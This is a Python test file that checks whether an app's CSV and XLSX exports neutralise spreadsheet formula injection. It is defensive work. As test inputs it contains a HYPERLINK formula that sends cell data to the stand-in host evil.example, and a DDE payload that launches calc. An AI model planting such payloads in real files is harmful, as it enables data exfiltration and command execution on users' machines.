"""Exports are data: no CSV or XLSX file the app writes holds a cell a spreadsheet would run.

Every writer is exercised (the tracker's xlsx and three CSVs through the API and ``kb tracker
export``, the recurrence table and the theme × year matrix in both formats through the API and
the service) with user text that starts with each formula character, then read back with
openpyxl and csv: no formula cell, no CSV cell starting with ``= + - @`` tab or CR, and a tracker
export imported again gives back the text as typed.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import Session, select
from typer.testing import CliRunner

from kb.cli import app
from kb.models import Action
from kb.services.access import Principal
from kb.services.recurrence import export_recurrence
from kb.services.spreadsheet import FORMULA_STARTS, csv_cell, csv_unquote
from kb.services.tracker_io import import_tracker
from tests.web_support import World, api_csrf

pytest_plugins = ["tests.web_fixtures"]
runner = CliRunner()

HOSTILE = '=HYPERLINK("http://evil.example/?"&G3,"Click")'
OTHERS = ["+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def _assert_xlsx_inert(content: bytes) -> list[str]:
    """No formula in any cell (and none in the raw sheet XML); returns the text cells."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _assert_csv_inert(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    bad = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert bad == [], bad
    return cells


@pytest.fixture
def hostile_action(clients, web_world: World) -> None:
    panel = clients["panel-a"]
    body = {"ref": "EVIL-1", "description": HOSTILE, "agency": "@agency", "owner": "-owner"}
    created = panel.post("/api/actions", json=body, headers=api_csrf(panel))
    assert created.status_code == 201, created.text


def test_tracker_exports_through_the_api_hold_no_formula(clients, hostile_action) -> None:
    c = clients["admin"]
    xlsx = c.get("/api/tracker/export.xlsx")
    assert xlsx.status_code == 200
    assert HOSTILE in _assert_xlsx_inert(xlsx.content)  # kept as text, exactly
    exported = c.get("/api/tracker/export.csv")
    assert exported.status_code == 200
    assert "'" + HOSTILE in _assert_csv_inert(exported.text)


def test_kb_tracker_export_files_hold_no_formula(engine, hostile_action, tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert runner.invoke(app, ["tracker", "export", str(tmp_path / "t.xlsx")]).exit_code == 0
    _assert_xlsx_inert((tmp_path / "t.xlsx").read_bytes())
    out.mkdir()
    assert runner.invoke(app, ["tracker", "export", str(out)]).exit_code == 0
    files = sorted(out.glob("*.csv"))
    assert files
    for file in files:
        _assert_csv_inert(file.read_bytes().decode("utf-8"))
    # The app reads its own CSV back as the text that was typed, not with the quote added.
    with Session(engine) as session:
        import_tracker(session, principal=Principal.system(), path=out)
        session.commit()
        action = session.exec(select(Action).where(Action.ref == "EVIL-1")).one()
        assert (action.description, action.agency, action.owner) == (HOSTILE, "@agency", "-owner")


def test_theme_exports_through_the_api_hold_no_formula(clients, web_world: World) -> None:
    c = clients["admin"]
    for kind in ("recurrence", "matrix"):
        xlsx = c.get(f"/api/themes/{kind}.xlsx")
        assert xlsx.status_code == 200, (kind, xlsx.text)
        _assert_xlsx_inert(xlsx.content)
        _assert_csv_inert(c.get(f"/api/themes/{kind}.csv").text)


@pytest.mark.parametrize("label", [HOSTILE, *OTHERS])
def test_recurrence_writer_neutralises_any_label(label: str, tmp_path: Path) -> None:
    """A partnership's own taxonomy may carry any label: both writers keep it inert."""
    table = {
        "total_reviews": 2,
        "themes": [{"id": "x", "label": label, "reviews": 1, "share": 0.5, "review_ids": [1]}],
    }
    row = {"id": "x", "label": label, "counts": [1]}
    matrix = {"years": [2020], "totals": [1], "themes": [row]}
    for data in (table, matrix):
        texts = _assert_xlsx_inert(export_recurrence(data, tmp_path / "t.xlsx").read_bytes())
        assert label.replace("\r", "") in texts or label in texts
        written = export_recurrence(data, tmp_path / "t.csv").read_bytes().decode("utf-8")
        cells = _assert_csv_inert(written)
        assert "'" + label in cells


@pytest.mark.parametrize("text", [HOSTILE, *OTHERS, "plain", "it's", "'=already quoted"])
def test_csv_cell_round_trip(text: str) -> None:
    cell = csv_cell(text)
    assert not str(cell).startswith(FORMULA_STARTS)
    assert csv_unquote(cell) == text or text.startswith("'")
    assert csv_cell(None) == "" and csv_cell(-3) == -3  # numbers stay numbers
